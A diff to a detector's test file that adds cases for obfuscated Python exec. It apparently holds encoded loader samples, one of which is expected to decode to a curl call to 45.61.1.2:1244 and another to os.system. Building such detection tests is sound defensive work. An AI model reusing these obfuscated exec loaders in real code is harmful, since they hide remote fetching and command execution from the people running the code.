@@ -18,6 +18,11 @@ const hexXor = (s: string, key: string) => Buffer.from([...Buffer.from(s)].map((
 
 ruleTest(rule, {
   clean: [
+    {
+      name: 'an icon kept as base85 and written to a .png (data, not code)',
+      file: 'assets.py',
+      code: "import base64\nICON = 'iBL{Q4GJ0x009C61O)~M2nh-c3=Iws5D^j+6crX17#SKH9337XAR!_nBqb&%'\nwith open('icon.png', 'wb') as f:\n    f.write(base64.b85decode(ICON))\n",
+    },
     { name: 'getattr of a module function by a literal name, result not executed', file: 'g.py', code: `import base64\nf = getattr(base64, "b64encode")\nprint(f(b"x"))\n` },
     { name: 'a lookup-table comprehension that is printed, not executed', file: 'tbl.py', code: `import string\nA = string.ascii_letters\nB = A[::-1]\nprint("".join([B[A.index(c)] if c in B else c for c in "Svool"]))\n` },
     { name: 'setup.py reads its version with exec of a file', file: 'setup.py', code: `about = {}\nwith open('pkg/__version__.py') as f:\n    exec(f.read(), about)\nsetup(name='pkg', version=about['__version__'])\n` },
@@ -31,6 +36,18 @@ ruleTest(rule, {
     { name: 'compiled cache read back through one decompress (a single decoder a few steps away)', file: 'cache.py', code: `import zlib\ndef load(path, ns):\n    with open(path, 'rb') as f:\n        raw = zlib.decompress(f.read())\n    src = raw.decode()\n    code = compile(src, path, 'exec')\n    exec(code, ns)\n` },
   ],
   flagged: [
+    {
+      name: 'packed lambda one-liner: exec of zlib(b85decode(reversed)) (pyobfuscate style)',
+      file: 'assessment/runner.py',
+      code: "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b85decode(__[::-1]));exec((_)(b'KYg-VFdP&((zF7Q_SxJ(V$hBG(J@tGH2Xi)Ja_$(hqC@CTQE@&YJl-E!sBD&|GH}t{Ri}$maGOQ_nyyE3}~$c'))\n",
+      findings: [{ line: 1, severity: 'critical', decoded: /curl -s http:\/\/45\.61\.1\.2:1244/, message: /reverse → base85 → zlib/ }],
+    },
+    {
+      name: 'exec of a85decode',
+      file: 'pkg/__init__.py',
+      code: "import base64\nexec(base64.a85decode('Bl.g-Ec`FBEsci,/ou;ZFCf;;,%Gb9C`k<N+D>k=E&oX*1c6mD0eP151-.-F1c-k)+FG;QBHel4'))\n",
+      findings: [{ line: 2, severity: 'critical', decoded: /os\.system/, message: /ascii85/ }],
+    },
     {
       name: 'hex blob XORed with a key passed in, exec a few assignments later',
       file: 'pkg/edt/helper.py',
